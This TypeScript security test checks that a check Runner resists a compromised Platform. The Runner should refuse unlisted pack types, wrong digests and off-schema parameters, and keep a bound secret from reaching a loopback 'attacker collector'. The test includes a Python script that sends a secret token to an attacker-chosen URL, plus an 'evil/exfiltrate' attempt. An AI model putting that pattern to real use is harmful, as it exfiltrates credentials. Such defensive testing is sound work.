/**
 * Pack checks against a hostile or compromised Platform, through a real Runner process: the
 * attacker holds the Platform's signing key and the workspace's payload keys and schedules
 * `executeCheck` straight on the Runner's queue (as a hostile Temporal can). Whatever it signs, the
 * Runner runs only what its owner pinned: no pack type the policy does not list, no other pack
 * code than the digest it loaded, no parameters outside the check's schema, and a script whose
 * parameters name another host reaches nothing (zero connections to the attacker's collector). A
 * bound secret is never sent anywhere, and never appears in what the attacker gets back.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import net, { type AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import { Client, Connection } from '@temporalio/client';
import { NativeConnection, Worker } from '@temporalio/worker';
import { stringify } from 'yaml';
import { lookoutDataConverter } from '../common/data-converter';
import { runnerTaskQueue, runWorkflowId } from '../common/ids';
import { StaticKeyring } from '../common/keyring';
import { paramsDigest, signTaskEnvelope, type TaskClaims } from '../common/task-envelope';
import { packDigest } from '../activities/runner/packs/loader';
import { exportRunnerKeyFile } from '../platform/crypto/platform-keyring';
import type { BootstrapOutput } from '../platform-api/services/bootstrap.service';
import { env, newWorkspace, startPlatform, type TestPlatform, runnerProcessEnv } from './harness/env';
import { loopbackPolicyInput, writePolicyFile } from './harness/policy';

const dist = path.resolve(__dirname, '..', 'dist');
const CANARY = `pack-secret-${randomUUID()}`;
const HOSTILE_QUEUE = `hostile-${randomUUID()}`;

let platform: TestPlatform;
let ws: BootstrapOutput;
let runner: ChildProcess;
let runnerOut = '';
let hostile: { client: Client; worker: Worker; running: Promise<void>; connection: NativeConnection; clientConnection: Connection };
let collector: net.Server;
let connections = 0;
let received = '';
let collectorUrl: string;
let digest: string;

/** A pack of the Runner's owner: a script that fetches the URL its parameters name, with a bound secret in a header. */
function ownersPack(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'lookout-owner-pack-'));
  chmodSync(dir, 0o755);
  mkdirSync(path.join(dir, 'checks'), { mode: 0o755 });
  writeFileSync(
    path.join(dir, 'pack.yaml'),
    stringify({
      name: 'owner',
      version: '1.0.0',
      checks: [
        {
          name: 'fetch',
          description: 'fetches the URL it is given, with the bound token',
          parameters: {
            type: 'object',
            additionalProperties: false,
            required: ['url'],
            properties: { url: { type: 'string', maxLength: 200 } },
          },
          needs: { destinations: [{ host: 'status.example.com', scheme: 'https' }], secrets: ['token'] },
          script: { run: 'checks/fetch.py', interpreter: 'python3', timeoutSeconds: 10 },
        },
      ],
    }),
  );
  writeFileSync(
    path.join(dir, 'checks', 'fetch.py'),
    [
      'import json, sys, urllib.request',
      'url = json.load(sys.stdin)["url"]',
      'token = open("/run/secrets/token").read()',
      'try:',
      '    urllib.request.urlopen(urllib.request.Request(url, headers={"Authorization": "Bearer " + token}), timeout=5)',
      '    outcome = "reached"',
      'except Exception as e:',
      '    outcome = "refused: " + type(e).__name__',
      'json.dump({"summary": outcome + " (token " + token + ")", "issues": [], "metrics": {}}, sys.stdout)',
      '',
    ].join('\n'),
  );
  return dir;
}

beforeAll(async () => {
  platform = await startPlatform();
  ws = await newWorkspace(platform, { probeUrl: 'http://127.0.0.1:9/' });
  collector = net.createServer((s) => {
    connections += 1;
    s.on('data', (d: Buffer) => (received += d.toString('latin1')));
    s.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n');
  });
  await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
  collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/`;
  const packDir = ownersPack();
  digest = packDigest(packDir);
  const policy = loopbackPolicyInput(['owner/fetch'], {
    destinations: [{ name: 'status', host: 'status.example.com' }],
    secretBindings: [{ name: 'token', ref: 'env:PACK_TOKEN', destinations: ['status'] }],
    packs: [{ name: 'owner', source: { dir: packDir }, digest, destinations: ['status'], secretBindings: ['token'] }],
  });
  runner = spawn(process.execPath, [path.join(dist, 'workers', 'runner.js')], {
    env: await runnerProcessEnv(platform, ws, writePolicyFile(policy), {
      LOOKOUT_RUNNER_PACK_CACHE_DIR: mkdtempSync(path.join(os.tmpdir(), 'lookout-pack-cache-')),
      PACK_TOKEN: CANARY,
    }),
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  runner.stdout!.on('data', (d: Buffer) => (runnerOut += d.toString()));
  runner.stderr!.on('data', (d: Buffer) => (runnerOut += d.toString()));
  const until = Date.now() + 30_000;
  while (!runnerOut.includes('runner polling')) {
    if (Date.now() > until || runner.exitCode !== null) throw new Error(`runner did not start: ${runnerOut}`);
    await new Promise((r) => setTimeout(r, 100));
  }
  const keys = new StaticKeyring(await exportRunnerKeyFile(platform.pool, platform.crypto.master, ws.workspaceId));
  const connection = await NativeConnection.connect({ address: env.temporalAddress });
  const clientConnection = await Connection.connect({ address: env.temporalAddress });
  const worker = await Worker.create({
    connection,
    namespace: ws.temporalNamespace!,
    taskQueue: HOSTILE_QUEUE,
    workflowsPath: require.resolve('./harness/hostile/workflows'),
    dataConverter: lookoutDataConverter(keys),
  });
  hostile = {
    client: new Client({ connection: clientConnection, namespace: ws.temporalNamespace!, dataConverter: lookoutDataConverter(keys) }),
    worker,
    running: worker.run(),
    connection,
    clientConnection,
  };
}, 180_000);

afterAll(async () => {
  runner?.kill('SIGTERM');
  hostile?.worker.shutdown();
  await hostile?.running;
  await hostile?.connection.close();
  await hostile?.clientConnection.close();
  collector?.close();
  await platform?.stop();
});

/** What the compromised Platform signs, with its own key, and schedules on the Runner's queue. */
async function attack(
  checkType: string,
  params: Record<string, unknown>,
  claims: Partial<TaskClaims> = {},
): Promise<{ ok: boolean; type?: string; message?: string; summary?: string }> {
  const runId = randomUUID();
  const workflowId = runWorkflowId(ws.workspaceId, runId);
  const now = Date.now();
  const envelope = signTaskEnvelope(platform.crypto.signing.privateKey, {
    v: 1,
    workspaceId: ws.workspaceId,
    runnerId: ws.runnerId,
    runId,
    workflowId,
    taskId: ws.taskId,
    checkType,
    paramsDigest: paramsDigest(params),
    packDigest: digest,
    issuedAt: new Date(now).toISOString(),
    expiresAt: new Date(now + 60_000).toISOString(),
    ...claims,
  });
  const handle = await hostile.client.workflow.start('scheduleOnRunner', {
    taskQueue: HOSTILE_QUEUE,
    workflowId,
    args: [runnerTaskQueue(ws.runnerId), { runId, workspaceId: ws.workspaceId, taskId: ws.taskId, checkType, params, envelope }],
  });
  try {
    const result = (await handle.result()) as { summary: string };
    return { ok: true, summary: result.summary };
  } catch (err) {
    let cause: unknown = err;
    while ((cause as { cause?: unknown }).cause) cause = (cause as { cause: unknown }).cause;
    return { ok: false, type: (cause as { type?: string }).type, message: (cause as Error).message };
  }
}

describe("a compromised Platform gets no more of a pack than the Runner's owner pinned", () => {
  it.each([
    [
      'a pack type the policy does not list',
      () => attack('evil/exfiltrate', { url: collectorUrl }),
      'CheckNotAllowed',
      /not in this Runner's allowlist/,
    ],
    [
      'another pack digest than the one the Runner loaded',
      () => attack('owner/fetch', { url: collectorUrl }, { packDigest: `sha256:${'1'.repeat(64)}` }),
      'PolicyDenied',
      /signed for pack owner at sha256:1{64}, but this Runner runs sha256:/,
    ],
    [
      'a pack check without a digest',
      () => attack('owner/fetch', { url: collectorUrl }, { packDigest: undefined }),
      'PolicyDenied',
      /without the pack's digest/,
    ],
    [
      'parameters outside the check schema',
      () => attack('owner/fetch', { url: collectorUrl, header: 'x' }),
      'InvalidConfiguration',
      /invalid parameters for owner\/fetch/,
    ],
  ])('refuses %s before running anything', async (_name, attempt, type, reason) => {
    const outcome = await attempt();
    expect(outcome).toMatchObject({ ok: false, type });
    expect(outcome.message).toMatch(reason);
    expect(connections).toBe(0);
  });

  it('lets the script run with attacker-chosen parameters, but its network reaches only what the owner granted, and the bound secret leaves nowhere', async () => {
    // The script runs; the collector's address is unreachable from the sandbox's own network, and by
    // name the Runner's egress proxy refuses the undeclared host. The token comes back redacted.
    const direct = await attack('owner/fetch', { url: collectorUrl });
    expect(direct).toMatchObject({ ok: true, summary: 'refused: URLError (token [redacted])' });
    const byName = await attack('owner/fetch', { url: collectorUrl.replace('127.0.0.1', 'localhost') });
    expect(byName).toMatchObject({ ok: true, summary: 'refused: HTTPError (token [redacted])' });
    const outcome = { direct, byName };
    expect(connections).toBe(0);
    expect(received).not.toContain(CANARY);
    expect(JSON.stringify(outcome)).not.toContain(CANARY);
    expect(runnerOut).not.toContain(CANARY);
    const stored = await platform.pool.query<{ n: string }>(
      "select count(*) as n from audit_events where details::text like '%' || $1 || '%'",
      [CANARY],
    );
    expect(stored.rows[0]!.n).toBe('0');
  });
});
